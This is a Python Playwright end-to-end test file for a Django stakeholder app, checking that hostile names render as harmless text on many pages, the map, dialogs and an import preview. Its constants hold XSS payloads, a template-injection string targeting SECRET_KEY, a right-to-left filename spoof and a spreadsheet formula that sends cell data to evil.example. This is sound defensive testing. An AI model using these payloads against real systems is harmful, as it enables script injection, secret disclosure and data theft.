"""People whose names are HTML, formulas, right-to-left, joined emoji or without end: every page shows them as text."""

import re

import pytest
from django.utils import timezone
from playwright.sync_api import Page, expect

from stakeholders.assessments import record_assessment
from stakeholders.models import Relationship, Stakeholder
from stakeholders.relationships import add_relationship
from stakeholders.touchpoints import log_touchpoint
from tests.e2e.stories import received
from tests.e2e.windows import NARROW, WIDE, overflow, resize

IMAGE = "<img src=x onerror=alert(1)>"
CLOSING = "</script></title></svg><svg onload=alert(2)>"
TEMPLATE = "{{ settings.SECRET_KEY }}${alert(3)}"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
RIGHT_TO_LEFT = "מרים בן־דוד (مريم)"
TURNED = "\u202egnp.exe"
EMOJI = "👩🏽‍🚀👨‍👩‍👧‍👦 Ada 🏳️‍🌈"
LONG = f"{IMAGE}{'W' * 270}"
NAMES = [IMAGE, CLOSING, TEMPLATE, FORMULA, RIGHT_TO_LEFT, TURNED, EMOJI, LONG]


@pytest.fixture
def people(inside, workspace, leader, member, add_person) -> dict[str, Stakeholder]:
    """Every text about them is as bad as the name, and they stand one on another."""
    with inside():
        made = {
            name: add_person(
                name, department=name[:120], job_title=name, segment="champion", influence=4, interest=4, position=1,
                engagement_now="neutral", engagement_desired="leading", why=name, notes=name, tags=[name],
                attributes={name: name}, owner=leader, assessed_on=timezone.localdate() - timezone.timedelta(days=90),
            )
            for name in NAMES
        }  # fmt: skip
        first = made[IMAGE]
        for name, person in made.items():
            record_assessment(person, author=leader, why=name, interest=5)
            log_touchpoint(person, author=leader, kind="call", summary=name)
            if person != first:
                add_relationship(person, target=first, kind=Relationship.Kind.REPORTS_TO, label=name)
        type(leader).objects.filter(pk=leader.pk).update(name=IMAGE)
        type(member).objects.filter(pk=member.pk).update(name=LONG[:150])
        type(workspace).objects.filter(pk=workspace.pk).update(name=LONG[:100])
    return made


@pytest.fixture
def watched(open_page, troubles):
    """A page in which any dialog of the browser is trouble."""

    def opened(path: str, **options) -> Page:
        page = open_page("about:blank", **options)

        def refuse(dialog) -> None:
            troubles.append(f"a dialog opened: {dialog.message}")
            dialog.dismiss()

        page.on("dialog", refuse)
        go(page, path)
        return page

    return opened


def go(page: Page, path: str) -> None:
    page.goto(path)
    if page.locator("[data-map]").count():
        page.wait_for_selector("[data-map].is-live")


def wrong(page: Page, *names: str) -> list[str]:
    """A name that is missing, became an element, or runs over the edge; wide and narrow."""
    text = page.locator("body").evaluate("body => body.textContent")
    found = [f"{page.url} does not name {name[:40]}" for name in names if name not in text]
    if page.locator('img[src="x"], [onerror], [onload]').count():
        found.append(f"{page.url} made an element of a name")
    for size in (WIDE, NARROW):
        resize(page, size)
        found += [f"{page.url}, {size[0]} px: {trouble}" for trouble in overflow(page)]
    return found


def test_on_pages_about_many(watched, people) -> None:
    page = watched("about:blank")
    found = []
    for path, named in (
        ("stakeholders/", NAMES),
        ("map/", NAMES),
        ("map/engagement/", NAMES),
        ("map/organisation/", NAMES),
        # Its filters and acts; the trail of a person is opened by its own link.
        ("audit/", [IMAGE]),
        ("members/", [IMAGE, LONG[:150]]),
    ):
        go(page, f"/w/northwind/{path}")
        found += wrong(page, *named)
    assert found == []


def test_on_the_pages_of_one(watched, people) -> None:
    page = watched("about:blank")
    found = []
    for name, person in people.items():
        page.goto(f"/w/northwind/stakeholders/{person.pk}/")
        found += wrong(page, name)
        assert name in page.get_by_role("heading", level=1).evaluate("heading => heading.textContent")
        assert page.title() == f"{name} · Coalition"
    for end in ("edit/", "assess/", "assess/?quick=1", "touchpoints/new/", "ties/new/", "export/", "erase/"):
        page.goto(f"/w/northwind/stakeholders/{people[LONG].pk}/{end}")
        found += wrong(page)
    assert found == []
    page.goto(f"/w/northwind/stakeholders/{people[FORMULA].pk}/edit/")
    expect(page.locator('input[name="name"]')).to_have_value(FORMULA)


def test_on_the_map(watched, people) -> None:
    page = watched("/w/northwind/map/")
    expect(page.locator(".map-mark")).to_have_count(len(NAMES))
    tip = page.get_by_role("tooltip")
    for size in (WIDE, NARROW):
        resize(page, size)
        for name, person in people.items():
            mark = page.locator(f'.map-mark[data-id="{person.pk}"]')
            assert mark.get_attribute("aria-label").startswith(f"{name}, champion")
            mark.focus()
            expect(tip).to_be_visible()
            assert name in tip.evaluate("tip => tip.textContent")
            box = tip.bounding_box()
            assert box["x"] >= 0, name
            assert box["x"] + box["width"] <= size[0], name
    found = wrong(page)
    go(page, f"/w/northwind/map/?who={people[LONG].pk}")
    expect(page.locator(".map-card").get_by_role("heading", name=LONG)).to_be_visible()
    assert found + wrong(page) == []


def test_in_the_question_a_move_asks(watched, people) -> None:
    page = watched("/w/northwind/map/", width=390)
    page.locator(f'.map-mark[data-id="{people[LONG].pk}"]').focus()
    for key in ("Enter", "ArrowDown", "Enter"):
        page.keyboard.press(key)
    dialog = page.locator("dialog[data-map-move]")
    expect(dialog.get_by_role("heading")).to_have_text(f"{LONG}: influence 3, interest 5")
    expect(page.get_by_label("Why did this move?")).to_be_visible()
    assert dialog.evaluate("dialog => dialog.scrollWidth <= dialog.clientWidth")
    assert wrong(page) == []
    page.keyboard.press("Escape")
    expect(dialog).to_be_hidden()


def test_in_the_presentation_nobody_is_named(watched, people) -> None:
    page = watched("/w/northwind/map/?present=1")
    expect(page.locator(".map-mark")).to_have_count(len(NAMES))
    html = page.content()
    assert [name for name in (*NAMES, "onerror", "evil.example", "W" * 20) if name in html] == []
    assert wrong(page) == []


def test_in_the_palette(watched, people) -> None:
    page = watched("/w/northwind/stakeholders/")
    page.keyboard.press("Control+k")
    field = page.get_by_role("combobox", name="Find anyone or any page")
    for name, part in (
        (IMAGE, "<img src"),
        (FORMULA, "=HYPER"),
        (RIGHT_TO_LEFT, "מרים"),
        (EMOJI, "👩🏽‍🚀"),
        (LONG, "WWWW"),
    ):
        field.fill(part)
        expect(page.locator('#palette [aria-selected="true"]')).to_contain_text(name)
    for size in (WIDE, NARROW):
        resize(page, size)
        box = page.locator("#palette").bounding_box()
        assert box["x"] >= 0
        assert box["x"] + box["width"] <= size[0]
    assert wrong(page) == []


def test_in_questions_and_messages(watched, people) -> None:
    page = watched(f"/w/northwind/stakeholders/{people[LONG].pk}/", width=390)
    page.get_by_role("button", name=re.compile(f"^Remove .*{re.escape(IMAGE)}$")).first.click()
    question = page.locator("#confirm")
    expect(question.locator("#confirm-text")).to_contain_text(f"and {IMAGE} will be removed.")
    found = wrong(page)
    question.get_by_role("button", name=re.compile("Cancel")).click()
    page.goto(f"/w/northwind/stakeholders/{people[LONG].pk}/assess/?quick=1")
    page.get_by_label("Why?").fill(LONG)
    page.get_by_role("button", name=re.compile("Store")).click()
    toasts = page.locator("#toasts")
    expect(toasts).to_contain_text(f"The assessment of {LONG} is stored.")
    box = toasts.bounding_box()
    assert box["x"] + box["width"] <= 390
    assert found + wrong(page) == []


def test_in_the_preview_of_an_import(watched, inside, workspace, leader) -> None:
    with inside():
        batch = received(workspace, leader, f"{IMAGE}.xlsx", [(name, name, name[:120], None, None) for name in NAMES])
        assert batch.plan["counts"]["people"]["create"] == len(NAMES), batch.plan
    page = watched("/w/northwind/imports/")
    found = wrong(page, f"{IMAGE}.xlsx")
    page.goto(f"/w/northwind/imports/{batch.pk}/")
    found += wrong(page, *NAMES, f"{IMAGE}.xlsx")
    page.get_by_role("button", name="Import it").click()
    expect(page.locator("#toasts")).to_contain_text("Imported, all of it.")
    assert found + wrong(page) == []
    with inside():
        assert sorted(Stakeholder.objects.values_list("name", flat=True)) == sorted(NAMES)
